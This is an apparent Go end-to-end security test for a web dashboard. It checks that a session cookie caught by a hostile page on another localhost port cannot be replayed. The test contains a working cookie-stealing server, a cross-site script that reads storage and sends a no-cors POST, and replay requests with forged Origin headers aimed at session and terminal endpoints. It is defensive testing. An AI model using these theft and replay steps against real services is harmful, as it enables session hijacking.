package e2e

import (
	"context"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"

	"github.com/paddockhq/paddock/internal/daemon/web"
	"github.com/paddockhq/paddock/internal/testkit/testenv"
)

// webLogin logs a Go client into the page with a login URL, as a browser
// does, and returns it with the page's key (the login's other half, in
// the login's answer only; the page sends it as web.KeyHeader, and on a
// terminal socket as the subprotocol "paddock.key.<key>").
func webLogin(t *testing.T, login string) (*http.Client, string) {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	hc := &http.Client{Jar: jar}
	resp, err := hc.Get(login)
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	_, after, _ := strings.Cut(string(page), `<meta name="paddock-key" content="`)
	key, _, _ := strings.Cut(after, `"`)
	if resp.StatusCode != 200 || key == "" {
		t.Fatalf("login: %d, no key in the answer", resp.StatusCode)
	}
	return hc, key
}

// TestWebCookieReplayFromAnotherPort: root's Chromium, logged in to the
// page, visits a page that another local user serves on another loopback
// port. Cookies are not port-scoped, so the browser sends that page the
// Runner's login cookie; its server replays it against the real Runner
// with X-Paddock: 1 and the page's own Origin forged, and gets nothing:
// no session created on anyone's directory, none slept, no list, no
// egress answer, no terminal joined (the session's screen gets none of its
// keys). The page's key is held by the page's origin alone: the other
// port's script cannot read it from storage, and the page served for the
// cookie alone holds none. Root's page works on, and a Go client with
// cookie and key is let in.
func TestWebCookieReplayFromAnotherPort(t *testing.T) {
	chromium := testenv.LookPath(t, "chromium")
	e := newEnv(t)
	name := "victim"
	e.pd("run", "-d", "--name", name, "--backend", "local")
	e.waitScreen(name, promptReady, 30*time.Second)
	login := strings.TrimSpace(e.pd("web"))
	base := login[:strings.Index(login, "/login")]

	// The other user's page, on another port of 127.0.0.1: it keeps the
	// cookies it is sent, and its script tries what a script can (read the
	// key from its storage; a no-cors POST with the browser's cookie).
	var mu sync.Mutex
	var stolen []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if c, err := r.Cookie(web.CookieName); err == nil {
			mu.Lock()
			stolen = append(stolen, c.Value)
			mu.Unlock()
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<!doctype html><title>cat pictures</title><script>
window.key = String(localStorage.getItem("paddock-key"));
fetch("`+base+`/api/sessions", {method: "POST", mode: "no-cors", credentials: "include", body: '{"name":"pwned-csrf","workspace":"/root"}'})
  .then(() => { window.done = "sent"; }, (e) => { window.done = "error " + e; });
</script>`)
	}))
	t.Cleanup(evil.Close)
	if !strings.HasPrefix(evil.URL, "http://127.0.0.1:") || strings.HasPrefix(base, evil.URL) {
		t.Fatalf("the other page %s is not another port of the page's host %s", evil.URL, base)
	}

	ctx := newBrowser(t, chromium)
	if err := chromedp.Do(ctx, chromedp.Navigate(login), chromedp.WaitVisible(chromedp.CSS(`tr[data-name="`+name+`"]`))); err != nil {
		t.Fatalf("root's page: %v", err)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(evil.URL+"/cats")); err != nil {
		t.Fatal(err)
	}
	var done, key string
	for deadline := time.Now().Add(10 * time.Second); done == "" && time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		done, _ = chromedp.Run(ctx, chromedp.Evaluate[string](`String(window.done || "")`))
	}
	key, _ = chromedp.Run(ctx, chromedp.Evaluate[string](`window.key`))
	if key != "null" {
		t.Fatalf("the other port's script read %q from its storage", key)
	}
	mu.Lock()
	cookies := append([]string(nil), stolen...)
	mu.Unlock()
	if len(cookies) == 0 {
		// The premise: without it this test shows nothing.
		t.Fatal("the browser did not send the page's cookie to another port")
	}
	cookie := cookies[0]
	t.Logf("the other port got the cookie (%d bytes); its script: %s", len(cookie), done)

	// The replay, from the other user's server.
	replay := func(method, path, body, origin string) (int, string) {
		req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
		req.Header.Set("Cookie", web.CookieName+"="+cookie)
		req.Header.Set("X-Paddock", "1")
		req.Header.Set("Origin", origin)
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, origin := range []string{base, evil.URL} {
		for _, rt := range []struct{ method, path, body string }{
			{"POST", "/api/sessions", `{"name":"pwned","backend":"local","workspace":"/root"}`},
			{"POST", "/api/sessions/" + name + "/sleep", ""},
			{"POST", "/api/sessions/" + name + "/egress/approve", `{"rule":"evil.example:443","scope":"session"}`},
			{"DELETE", "/api/sessions/" + name, ""},
			{"GET", "/api/sessions?all_users=1", ""},
			{"GET", "/api/sessions/" + name + "/logs", ""},
			{"POST", "/logout", ""},
		} {
			if code, body := replay(rt.method, rt.path, rt.body, origin); code != 401 || !strings.Contains(body, "cookie alone is nothing") {
				t.Errorf("the replayed cookie, %s %s (Origin %s): %d %.80q", rt.method, rt.path, origin, code, body)
			}
		}
	}
	// The page itself is served for the cookie (public bytes), without a key.
	if code, body := replay("GET", "/", "", base); code != 200 || !strings.Contains(body, `<meta name="paddock-key" content="">`) {
		t.Errorf("the page for the cookie alone: %d, key-less: %v", code, strings.Contains(body, `content=""`))
	}
	// The terminal, the page's own Origin forged, as a driver.
	wsURL := "ws" + strings.TrimPrefix(base, "http") + "/api/sessions/" + name + "/terminal?role=driver&rows=24&cols=80"
	wctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	for _, protos := range [][]string{nil, {"paddock", "paddock.key.x"}} {
		c, resp, err := websocket.Dial(wctx, wsURL, &websocket.DialOptions{
			HTTPHeader:   http.Header{"Cookie": {web.CookieName + "=" + cookie}, "Origin": {base}, "X-Paddock": {"1"}},
			Subprotocols: protos})
		if err == nil {
			c.Write(wctx, websocket.MessageText, []byte(`{"t":"i","d":"pwned-keys"}`))
			c.CloseNow()
		}
		if err == nil || resp == nil || resp.StatusCode != 401 {
			t.Errorf("the replayed cookie on the terminal (subprotocols %q): %v %v", protos, resp != nil && resp.StatusCode == 101, err)
		}
	}

	// Nothing happened.
	time.Sleep(500 * time.Millisecond)
	ls := e.pd("ls", "--all-users")
	if strings.Contains(ls, "pwned") || !strings.Contains(ls, name) || !strings.Contains(ls, "running") {
		t.Fatalf("after the replay:\n%s", ls)
	}
	if s := e.screen(name); strings.Contains(s, "pwned-keys") {
		t.Fatalf("the replayed cookie typed into the terminal:\n%s", s)
	}

	// Root's page works on: the list, and the terminal (the key from the
	// page's storage, the cookie from its jar).
	if err := chromedp.Do(ctx, chromedp.Navigate(base+"/#/s/"+name), chromedp.WaitVisible(chromedp.CSS(".xterm-rows"))); err != nil {
		t.Fatal(err)
	}
	waitTerminal(t, ctx, "bypass permissions on")
	// And a client with both halves is let in.
	hc, k := webLogin(t, strings.TrimSpace(e.pd("web")))
	req, _ := http.NewRequest("GET", base+"/api/sessions", nil)
	req.Header.Set(web.KeyHeader, k)
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(string(b), name) {
		t.Fatalf("cookie and key: %d %s", resp.StatusCode, b)
	}
	c, _, err := websocket.Dial(wctx, wsURL, &websocket.DialOptions{HTTPClient: hc, Subprotocols: []string{"paddock", "paddock.key." + k}})
	if err != nil {
		t.Fatalf("the terminal with cookie and key: %v", err)
	}
	c.CloseNow()
}
